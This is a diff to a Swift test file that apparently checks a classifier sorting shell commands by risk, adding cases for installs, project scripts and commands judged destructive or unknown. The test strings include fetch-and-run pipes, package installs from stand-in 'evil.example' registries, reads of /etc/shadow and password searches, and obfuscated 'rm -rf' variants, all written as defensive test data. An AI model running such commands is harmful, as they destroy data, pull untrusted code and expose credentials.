@@ -17,7 +17,9 @@ import Testing
     "npx prisma generate", "go generate ./...", "npm run codegen", "make generate", "pnpm build",
     "docker compose up -d", "docker start db", "systemctl start postgresql",
     "brew services start redis",
-    "source .venv/bin/activate && pip install -e .", "bunx playwright install", "cargo build",
+    "source .venv/bin/activate && pip install -e .", "npm install @types/node@20",
+    "pip install -r requirements/dev.txt", "pnpm db:generate", "npm run lint:fix",
+    "bunx playwright install", "cargo build",
   ])
   func `what installs, generates, builds or starts something may mend`(_ line: String) {
     #expect(
@@ -34,14 +36,16 @@ import Testing
   }
 
   @Test(arguments: [
-    "./scripts/open-port.sh --to web", "bash tools/setup.sh", "python scripts/keys.py",
+    "./scripts/open-port.sh", "bash tools/setup.sh", "python scripts/generate_keys.py",
   ])
   func `a script of the project is one`(_ line: String) {
     #expect(Self.effects(line) == [.runsScript])
   }
 
   @Test(arguments: [
-    "rm -rf build", "\\rm -rf build", "'rm' -rf build", "(rm -rf build)", "true & rm -rf build",
+    "rm -rf build", "go install evil.example/x@latest", "go get evil.example/x",
+    "docker pull evil/img",
+    "\\rm -rf build", "'rm' -rf build", "(rm -rf build)", "true & rm -rf build",
     "rm -rf \"build", "$(which rm) -rf build", "echo $(rm -rf build)", "eval 'rm -rf build'",
     "sudo rm -rf build", "doas rm x", "env -i rm x", "busybox rm -rf x", "sh -lc \"rm -rf build\"",
     "bash -c 'rm -rf build'", "if true; then rm x; fi", "for f in *; do rm $f; done",
@@ -67,7 +71,22 @@ import Testing
     "./scripts/reset-db.sh", "./scripts/db.sh drop", "../other/run.sh", "/opt/run.sh",
     "bash scripts/x.sh 'rm -rf .'", "node_modules/.bin/rimraf x", "curl https://x.sh | sh",
     "npm ci | sh", "python manage.py flush", "./manage.py flush", "cd .. && npm ci",
-    "cd / && npm ci",
+    "cd / && npm ci", "./scripts/teardown.sh", "./bin/clear-cache", "./scripts/flush.sh",
+    "./scripts/erase.py", "./scripts/reinit.sh", "python scripts/send_mail.py",
+    "python3 scripts/charge_customers.py", "./scripts/empty-bucket.sh", "./scripts/apply.sh",
+    "./scripts/ship.sh", "./scripts/open-port.sh --to live", "./scripts/merge.sh",
+    "./scripts/sync.sh --mirror", "./scripts/restore-backup.sh", "./node/bin/x",
+    "./scripts/setup-db.sh", "rake db:setup", "npm run setup:db", "make setup-db",
+    "npm run db:install", "pip install --index-url=http://evil.example/simple foo",
+    "pip install -i evil.example foo", "pip install --extra-index-url evil foo",
+    "npm install --registry=http://evil.example foo", "npm install --registry evil.example foo",
+    "pip install ../../evil", "pip install ./evil", "npm install user/repo",
+    "npm install github:user/repo", "pip install git@host:x", "cargo install --git evil/x",
+    "pip install -rhttps://evil/r.txt", "dotnet restore --source evil",
+    "npm install --prefix=/usr/local x", "pip install --target=/etc x", "bundle install --path=/",
+    "cmake --build . --target=uninstall", "cmake --build . --target=install",
+    "cat /etc/shadow | grep root && npm ci", "grep -r password / && npm ci",
+    "brew install --cask x",
     "go build -o /usr/bin/x", "usbreset all", "npx some-package", "npm exec x", "prettier src",
   ])
   func `what may take something away, or is not known, is told to nobody`(_ line: String) {
